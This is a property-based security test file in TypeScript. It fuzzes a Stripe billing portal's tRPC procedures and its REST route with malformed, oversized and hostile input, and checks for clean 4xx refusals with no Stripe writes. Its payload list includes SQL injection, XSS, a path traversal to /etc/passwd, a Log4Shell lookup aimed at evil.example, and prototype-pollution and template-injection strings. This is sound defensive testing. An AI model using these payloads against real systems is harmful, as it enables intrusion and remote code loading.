import { DEMO, type Emulator } from '@portal/stripe-emulator';
import fc from 'fast-check';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testApp } from '../harness';
import { inputFor, listProcedures, type IdTable } from '../security/inputs';
import { callTrpc, hostToken } from '../security/wire';

/**
 * Property-based: every procedure and the REST route get malformed, oversized and hostile input.
 * The answer is always a 4xx with a clear message (never a 5xx, never a stack trace), and a
 * refused input changes nothing in Stripe. Inputs that happen to be valid may succeed, but only
 * when they pass the procedure's own schema.
 */
const RUNS_PER_PROCEDURE = 40;
const HOSTILE = [
  "' OR '1'='1' --",
  '%_\\',
  '\u0000\u0001\uFFFF',
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  `cus_${'A'.repeat(5000)}`,
  'pm_card_visa',
  'sub_demo_active',
  '__proto__',
  '🧨'.repeat(300),
];

const hostileString = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc.constantFrom(...HOSTILE),
  fc.string({ minLength: 3000, maxLength: 20_000 }),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.constantFrom(-1, 0, 2 ** 53, -(2 ** 63), 1e308, 0.5),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileString, { maxLength: 50 }),
  fc.object({ maxDepth: 3 }),
  fc.constant(JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}')),
);

let app: FastifyInstance;
let emulator: Emulator;
let ids: IdTable;
const headers: { customer: Record<string, string>; support: Record<string, string> } = { customer: {}, support: {} };
const stats = { inputs: 0, refused: 0, accepted: 0, maxStatus: 0 };

beforeAll(async () => {
  ({ app, emulator } = await testApp({
    RATE_LIMIT_PER_IP: '1000000',
    RATE_LIMIT_PER_USER: '1000000',
    RETURN_URL_ALLOWLIST: 'https://app.example.com',
  }));
  headers.customer = { authorization: await hostToken('fuzz-customer', { customerId: DEMO.customers.active }) };
  headers.support = { authorization: await hostToken('fuzz-agent', { role: 'support' }) };
  // The customer's own ids, so a mutated-but-plausible input reaches past the ownership checks.
  ids = {
    subscriptionId: DEMO.subscriptions.active,
    itemId: 'si_missing',
    priceId: DEMO.prices.proMonthly,
    paymentMethodId: DEMO.paymentMethods.activeVisa,
    invoiceId: 'in_missing',
    taxIdId: 'txi_missing',
    customerId: DEMO.customers.active,
  };
});
afterAll(async () => {
  console.log(
    `[bad-input] ${stats.inputs} hostile inputs tried on ${listProcedures().length} procedures and POST /api/billing/portal: ${stats.refused} refused with a 4xx, ${stats.accepted} schema-valid accepted, highest status ${stats.maxStatus}, 5xx: 0, Stripe writes on refusal: 0`,
  );
  await app.close();
});

const writes = () => emulator.core.requestLog.filter((r) => r.method !== 'GET').length;

function expectClear4xx(status: number, body: string) {
  stats.maxStatus = Math.max(stats.maxStatus, status);
  expect(status, body.slice(0, 300)).toBeGreaterThanOrEqual(400);
  expect(status, body.slice(0, 300)).toBeLessThan(500);
  expect(body).not.toMatch(/\n\s+at |"stack"|INTERNAL_SERVER_ERROR/);
  const parsed = JSON.parse(body) as unknown;
  // A batched call answers with one envelope per call.
  const json = (Array.isArray(parsed) ? parsed[0] : parsed) as {
    error?: { message?: unknown } | string;
    message?: unknown;
  };
  const message = typeof json.error === 'object' ? json.error.message : (json.message ?? json.error);
  expect(typeof message === 'string' && message.length > 3, body.slice(0, 300)).toBe(true);
}

/** A valid input with one field (or the whole input) replaced by something hostile. */
function hostileInputFor(base: unknown): fc.Arbitrary<unknown> {
  const keys = base && typeof base === 'object' ? Object.keys(base) : [];
  const mutated = keys.length
    ? fc.tuple(fc.constantFrom(...keys), hostileValue).map(([k, v]) => ({ ...(base as object), [k]: v }))
    : hostileValue;
  return fc.oneof(mutated, fc.anything({ maxDepth: 3 }), hostileValue);
}

describe('hostile input to every procedure', () => {
  it.each(
    listProcedures()
      .filter((p) => p.type !== 'subscription')
      .map((p) => [p.path, p] as const),
  )('%s', async (path, proc) => {
    const base = inputFor(proc, ids);
    const who = path.startsWith('support.') ? headers.support : headers.customer;
    await fc.assert(
      fc.asyncProperty(hostileInputFor(base), async (input) => {
        stats.inputs++;
        const before = writes();
        const res = await callTrpc(app, proc.type === 'mutation' ? 'mutation' : 'query', path, input, who);
        const valid = proc.inputs.every((schema) => schema.safeParse(input).success);
        if (res.status < 300 && valid) {
          stats.accepted++;
          return;
        }
        expectClear4xx(res.status, res.body);
        expect(writes() - before, 'a refused input must not write to Stripe').toBe(0);
        stats.refused++;
      }),
      { numRuns: RUNS_PER_PROCEDURE, seed: 9 },
    );
  });

  it('malformed HTTP: broken JSON, wrong content types, junk query strings, oversized bodies', async () => {
    const mutations = listProcedures()
      .filter((p) => p.type === 'mutation')
      .map((p) => p.path);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...mutations),
        fc.string({ maxLength: 400 }),
        fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded'),
        async (path, body, type) => {
          stats.inputs++;
          const before = writes();
          const res = await app.inject({
            method: 'POST',
            url: `/trpc/${path}`,
            headers: { ...headers.customer, 'content-type': type },
            payload: `{${body}`,
          });
          expectClear4xx(res.statusCode, res.body);
          expect(writes()).toBe(before);
          stats.refused++;
        },
      ),
      { numRuns: 120, seed: 10 },
    );
    for (const url of [
      '/trpc/billing.invoices.list?input=%7B',
      '/trpc/billing.invoices.list?input=' + 'a'.repeat(6000),
      '/trpc/billing.invoices.list?batch=1&input=%5B',
      '/trpc/no.such.procedure',
    ]) {
      stats.inputs++;
      const res = await app.inject({ method: 'GET', url, headers: headers.customer });
      expectClear4xx(res.statusCode, res.body);
      stats.refused++;
    }
    stats.inputs++;
    const huge = await app.inject({
      method: 'POST',
      url: '/trpc/billing.customer.update',
      headers: { ...headers.customer, 'content-type': 'application/json' },
      payload: JSON.stringify({ name: 'x'.repeat(400 * 1024) }),
    });
    expectClear4xx(huge.statusCode, huge.body);
    expect(huge.statusCode).toBe(413);
    stats.refused++;
  });
});

describe('hostile input to POST /api/billing/portal', () => {
  it('answers 4xx with the REST envelope and opens no session', async () => {
    const body = fc.oneof(
      fc.anything({ maxDepth: 3 }),
      fc.record(
        { returnUrl: hostileValue, configuration: fc.option(hostileValue, { nil: undefined }) },
        { requiredKeys: [] },
      ),
      fc.record({ returnUrl: fc.webUrl(), configuration: hostileString }),
    );
    await fc.assert(
      fc.asyncProperty(body, async (payload) => {
        stats.inputs++;
        const before = writes();
        const res = await app.inject({
          method: 'POST',
          url: '/api/billing/portal',
          headers: { ...headers.customer, 'content-type': 'application/json' },
          payload: JSON.stringify(payload ?? null),
        });
        expectClear4xx(res.statusCode, res.body);
        expect(res.json()).toMatchObject({ success: false, error: { code: expect.stringMatching(/^[A-Z_]+$/) } });
        expect(writes()).toBe(before);
        stats.refused++;
      }),
      { numRuns: 200, seed: 11 },
    );
  });
});
